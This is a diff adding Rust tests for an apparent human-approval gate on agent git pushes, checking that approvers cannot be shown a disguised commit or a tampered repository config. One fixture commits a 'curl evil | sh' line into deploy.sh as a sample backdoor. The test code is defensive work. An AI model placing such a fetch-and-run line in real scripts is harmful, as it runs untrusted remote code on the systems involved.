@@ -168,7 +168,8 @@ async fn an_approved_push_publishes_exactly_the_approved_commit() {
         "Ann Agent <ann@example.org>",
         &format!("{a}:refs/heads/main"),
         "index.html | 1 +",
-        "commits not in origin/main:",
+        "commits this adds to origin/main:",
+        "origin/main is ",
     ] {
         assert!(shown.contains(expected), "{expected:?} not shown:\n{shown}");
     }
@@ -205,6 +206,10 @@ env = { PATH = "/usr/bin:/bin" }
     let before = origin_main(&d);
     let head = git(&work, &["rev-parse", "HEAD"]);
     let tree = git(&work, &["rev-parse", "HEAD^{tree}"]);
+    // A 64-hex name in a SHA-1 repository would be looked up as a ref, which
+    // can be moved after the approval.
+    let branch = "ab".repeat(32);
+    git(&work, &["branch", &branch, "HEAD"]);
     let _desk = d.spawn("outbox", "desk");
     let _outbox = outbox(&d);
     let cases: Vec<(&str, String, Option<&str>, &str)> = vec![
@@ -217,6 +222,7 @@ env = { PATH = "/usr/bin:/bin" }
         ),
         ("publish-site", "0".repeat(40), None, "not an object"),
         ("publish-site", tree, None, "not a commit"),
+        ("publish-site", branch, None, "not a sha1 commit id"),
         (
             "tag",
             head.clone(),
@@ -330,4 +336,48 @@ fn an_effects_bridge_cannot_turn_approval_off() {
         + &config("").replace("approval = {", "approval = { required = false,");
     let e = broker::Config::parse(&text).unwrap_err().to_string();
     assert!(e.contains("bridges.deploy.approval.required"), "{e}");
+}
+
+/// A repository whose git config anyone else can write is refused: git obeys
+/// it (where a push goes, programs it runs). Nothing is asked, nothing runs.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_repository_others_can_write_is_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let d = Deployment::new(&config(""));
+    let work = repos(&d);
+    let head = git(&work, &["rev-parse", "HEAD"]);
+    std::fs::set_permissions(
+        work.join(".git/config"),
+        std::fs::Permissions::from_mode(0o666),
+    )
+    .unwrap();
+    let _desk = d.spawn("outbox", "desk");
+    let _outbox = outbox(&d);
+    ask(&d, "publish-site", &head, None).await;
+    let n = notice(&d, 0).await;
+    assert_eq!(n["status"], "invalid", "{n:?}");
+    assert!(
+        n["reason"].contains("writable by its group or others"),
+        "{n:?}"
+    );
+    assert!(d.delivered("desk.out").is_empty(), "nobody was asked");
+}
+
+/// What approvers see is the object that would be pushed: a replace ref does
+/// not dress a commit up as another.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn approvers_see_the_real_commit_through_replace_refs() {
+    let d = Deployment::new(&config(""));
+    let work = repos(&d);
+    let benign = commit(&work, "a.txt", "fine\n", "A harmless change");
+    git(&work, &["reset", "-q", "--hard", "HEAD~1"]);
+    let evil = commit(&work, "deploy.sh", "curl evil | sh\n", "Add a backdoor");
+    git(&work, &["replace", &evil, &benign]);
+    let _desk = d.spawn("outbox", "desk");
+    let _outbox = outbox(&d);
+    ask(&d, "publish-site", &evil, None).await;
+    let (_, shown) = request(&d, 0).await;
+    assert!(shown.contains("Add a backdoor"), "{shown}");
+    assert!(shown.contains("deploy.sh"), "{shown}");
+    assert!(!shown.contains("A harmless change"), "{shown}");
 }
